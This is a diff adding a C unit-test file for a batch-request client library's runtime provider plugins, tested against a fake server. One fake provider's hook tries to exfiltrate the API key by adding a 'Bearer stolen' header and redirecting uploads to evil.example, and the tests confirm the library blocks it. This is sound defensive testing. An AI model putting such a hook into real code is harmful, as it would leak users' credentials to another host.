@@ -1,0 +1,239 @@
+/* Providers registered at run time through include/obatch/sys/provider.h,
+ * against the fake server: a provider that sends its requests inline with
+ * the create call (no upload, like Anthropic's Message Batches), one with its
+ * own request checks, and hooks that try to send the key elsewhere. */
+#define _GNU_SOURCE
+#include <ftw.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "fake_server.h"
+#include "obatch/sys/provider.h"
+#include "test_main.h"
+
+#define CHAT(model, text) \
+  "{\"model\":\"" model "\",\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]}"
+
+typedef struct {
+  fake_server_t server;
+  char work_dir[128];
+  obatch_t *b;
+} fixture_t;
+
+/* ---- the providers under test --------------------------------------------- */
+
+static int inline_claims(const char *model, void *payload) {
+  (void)payload;
+  return strncmp(model, "inline/", 7) == 0;
+}
+
+/* CREATE carries the JSONL itself; every other call is OpenAI's. */
+static int inline_build(int op, const obatch_op_args_t *args, obatch_http_request_t *req,
+                        void *payload) {
+  if (op != OBATCH_OP_CREATE) return obatch_openai_build_request(op, args, req, payload);
+  char target[256];
+  snprintf(target, sizeof target, "/inline_batches?endpoint=%s", obatch_op_arg(args, "endpoint"));
+  int rc = obatch_http_request_set(req, "POST", target);
+  if (rc == OBATCH_OK)
+    rc = obatch_http_request_set_body_file(req, "application/jsonl",
+                                           obatch_op_arg(args, "input_path"));
+  return rc;
+}
+
+/* Refuses requests with a temperature above 1 (a provider-specific rule). */
+static int strict_check(const char *endpoint, const char *body, size_t len, char *errstr,
+                        size_t errstr_size, void *payload) {
+  (void)endpoint;
+  (void)len;
+  (void)payload;
+  if (strstr(body, "\"temperature\":2")) {
+    snprintf(errstr, errstr_size, "temperature 2 is above this provider's limit of 1");
+    return 1;
+  }
+  return 0;
+}
+
+static int auth_header_rc = 1; /* what adding an Authorization header returned */
+
+/* Tries to route the key: an extra Authorization header, then another host. */
+static int leaky_build(int op, const obatch_op_args_t *args, obatch_http_request_t *req,
+                       void *payload) {
+  int rc = obatch_openai_build_request(op, args, req, payload);
+  if (rc != OBATCH_OK) return rc;
+  auth_header_rc = obatch_http_request_add_header(req, "Authorization", "Bearer stolen");
+  if (op == OBATCH_OP_UPLOAD) return obatch_http_request_set(req, "POST", "https://evil.example/files");
+  return OBATCH_OK;
+}
+
+static const char *const kChatOnly[] = {"/v1/chat/completions", NULL};
+
+static obatch_provider_t table(const char *name, const char *key_env) {
+  obatch_provider_t p;
+  memset(&p, 0, sizeof p);
+  p.version = OBATCH_PROVIDER_VERSION;
+  p.name = name;
+  p.default_base_url = "https://api.invalid/v1";
+  p.api_key_env = key_env;
+  p.max_requests = 100;
+  return p;
+}
+
+static int register_providers(void **state) {
+  (void)state;
+  obatch_provider_t inl = table("inline-fake", "INLINE_FAKE_KEY");
+  inl.inline_requests = 1;
+  inl.claims_model = inline_claims;
+  inl.build_request = inline_build;
+  obatch_provider_t strict = table("strict-fake", "STRICT_FAKE_KEY");
+  strict.endpoints = kChatOnly;
+  strict.check_request = strict_check;
+  strict.max_requests = 3;
+  obatch_provider_t leaky = table("leaky-fake", "LEAKY_FAKE_KEY");
+  leaky.build_request = leaky_build;
+  if (obatch_provider_register(&inl) != OBATCH_OK) return -1;
+  if (obatch_provider_register(&strict) != OBATCH_OK) return -1;
+  if (obatch_provider_register(&leaky) != OBATCH_OK) return -1;
+  return 0;
+}
+
+/* ---- fixture ---------------------------------------------------------------- */
+
+static int rm_entry(const char *path, const struct stat *sb, int flag, struct FTW *ftw) {
+  (void)sb;
+  (void)flag;
+  (void)ftw;
+  return remove(path);
+}
+
+static int setup(void **state) {
+  fixture_t *f = calloc(1, sizeof *f);
+  if (!f) return -1;
+  snprintf(f->work_dir, sizeof f->work_dir, "/tmp/obatch-plugin-XXXXXX");
+  if (!mkdtemp(f->work_dir) || fake_server_start(&f->server, "{\"steps\":0}") != 0) {
+    free(f);
+    return -1;
+  }
+  *state = f;
+  return 0;
+}
+
+static int teardown(void **state) {
+  fixture_t *f = *state;
+  obatch_destroy(f->b);
+  fake_server_stop(&f->server);
+  nftw(f->work_dir, rm_entry, 8, FTW_DEPTH | FTW_PHYS);
+  free(f);
+  return 0;
+}
+
+static obatch_t *batch_for(fixture_t *f, const char *provider) {
+  obatch_config_t *conf = NULL;
+  char err[256];
+  assert_int_equal(obatch_config_new(&conf), OBATCH_OK);
+  if (provider) assert_int_equal(obatch_config_set(conf, "provider", provider, err, sizeof err), 0);
+  assert_int_equal(obatch_config_set(conf, "base_url", f->server.base_url, err, sizeof err), 0);
+  assert_int_equal(obatch_config_set(conf, "api_key", "test-key", err, sizeof err), 0);
+  assert_int_equal(obatch_config_set(conf, "work_dir", f->work_dir, err, sizeof err), 0);
+  assert_int_equal(obatch_config_set(conf, "poll_interval_ms", "5", err, sizeof err), 0);
+  assert_int_equal(obatch_config_set(conf, "poll_max_interval_ms", "20", err, sizeof err), 0);
+  assert_int_equal(obatch_create(&f->b, conf), OBATCH_OK);
+  obatch_config_destroy(conf);
+  return f->b;
+}
+
+/* ---- cases ------------------------------------------------------------------ */
+
+static void inline_provider_needs_no_upload(void **state) {
+  fixture_t *f = *state;
+  obatch_t *b = batch_for(f, NULL); /* chosen by model: inline/... */
+  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "a"), "a", NULL), OBATCH_OK);
+  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "b"), "b", NULL), OBATCH_OK);
+  assert_int_equal(obatch_add(b, CHAT("inline/tiny", "c"), "c", NULL), OBATCH_OK);
+  assert_int_equal(obatch_submit(b), OBATCH_OK);
+  obatch_info_t info = OBATCH_INFO_INIT;
+  assert_int_equal(obatch_wait(b, 30000, &info), OBATCH_OK);
+  assert_string_equal(info.provider, "inline-fake");
+  assert_string_equal(info.remote_status, "completed");
+
+  static const char *const ids[] = {"a", "b", "c"};
+  obatch_result_t r = OBATCH_RESULT_INIT;
+  for (int i = 0; i < 3; i++) {
+    assert_int_equal(obatch_fetch(b, &r), OBATCH_OK);
+    assert_string_equal(r.custom_id, ids[i]);
+    assert_int_equal(r.status_code, 200);
+    char echo[32];
+    snprintf(echo, sizeof echo, "echo: %s", ids[i]);
+    assert_non_null(strstr(r.body, echo));
+  }
+  assert_int_equal(obatch_fetch(b, &r), OBATCH_END);
+  assert_int_equal(fake_server_stats_int(&f->server, "uploads"), 0);
+  assert_int_equal(fake_server_stats_int(&f->server, "batches_created"), 1);
+  assert_int_equal(fake_server_count_requests(&f->server, "POST", "/v1/files", NULL), 0);
+  assert_int_equal(fake_server_count_requests(&f->server, "POST", "/v1/inline_batches", NULL), 1);
+}
+
+static void provider_checks_run_at_add(void **state) {
+  fixture_t *f = *state;
+  obatch_t *b = batch_for(f, "strict-fake");
+  assert_int_equal(obatch_add(b, "{\"model\":\"m\",\"input\":\"x\"}", NULL, "/v1/embeddings"),
+                   OBATCH_EREQUEST);
+  assert_non_null(strstr(obatch_last_error(b), "/v1/chat/completions"));
+  assert_int_equal(
+      obatch_add(b, "{\"model\":\"m\",\"temperature\":2,\"messages\":[{\"role\":\"user\"}]}",
+                 NULL, NULL),
+      OBATCH_EREQUEST);
+  assert_non_null(strstr(obatch_last_error(b), "temperature 2 is above"));
+  assert_int_equal(obatch_add(b, CHAT("m", "1"), NULL, NULL), OBATCH_OK);
+  assert_int_equal(obatch_add(b, CHAT("m", "2"), NULL, NULL), OBATCH_OK);
+  assert_int_equal(obatch_add(b, CHAT("m", "3"), NULL, NULL), OBATCH_OK);
+  assert_int_equal(obatch_add(b, CHAT("m", "4"), NULL, NULL), OBATCH_ELIMIT);
+  assert_non_null(strstr(obatch_last_error(b), "strict-fake allows 3"));
+  obatch_info_t info = OBATCH_INFO_INIT;
+  assert_int_equal(obatch_info(b, &info), OBATCH_OK);
+  assert_int_equal(info.requests_added, 3);
+  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, NULL), 0);
+}
+
+static void key_never_leaves_its_host(void **state) {
+  fixture_t *f = *state;
+  obatch_t *b = batch_for(f, "leaky-fake");
+  assert_int_equal(obatch_add(b, CHAT("m", "x"), NULL, NULL), OBATCH_OK);
+  assert_int_equal(obatch_submit(b), OBATCH_OK);
+  obatch_info_t info = OBATCH_INFO_INIT;
+  assert_int_equal(obatch_wait(b, 30000, &info), OBATCH_EINSECURE);
+  assert_int_equal(info.phase, OBATCH_PHASE_FAILED);
+  assert_non_null(strstr(info.error_message, "another host"));
+  assert_int_equal(auth_header_rc, OBATCH_EINVAL); /* hooks cannot set Authorization */
+  assert_int_equal(fake_server_count_requests(&f->server, NULL, NULL, NULL), 0);
+}
+
+static void registration_is_checked(void **state) {
+  (void)state;
+  obatch_provider_t p = table("late-fake", "LATE_FAKE_KEY");
+  p.version = 0;
+  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
+  p.version = OBATCH_PROVIDER_VERSION + 1;
+  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
+  p.version = OBATCH_PROVIDER_VERSION;
+  p.name = "openai";
+  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL); /* taken */
+  p.name = NULL;
+  assert_int_equal(obatch_provider_register(&p), OBATCH_EINVAL);
+  assert_int_equal(obatch_provider_register(NULL), OBATCH_EINVAL);
+  const char *names = obatch_provider_names();
+  assert_non_null(strstr(names, "openai"));
+  assert_non_null(strstr(names, "parasail"));
+  assert_non_null(strstr(names, "inline-fake"));
+  assert_null(strstr(names, "late-fake"));
+}
+
+static const struct CMUnitTest tests[] = {
+    cmocka_unit_test_setup_teardown(inline_provider_needs_no_upload, setup, teardown),
+    cmocka_unit_test_setup_teardown(provider_checks_run_at_add, setup, teardown),
+    cmocka_unit_test_setup_teardown(key_never_leaves_its_host, setup, teardown),
+    cmocka_unit_test(registration_is_checked),
+};
+
+OBATCH_TEST_MAIN(tests, register_providers, NULL)
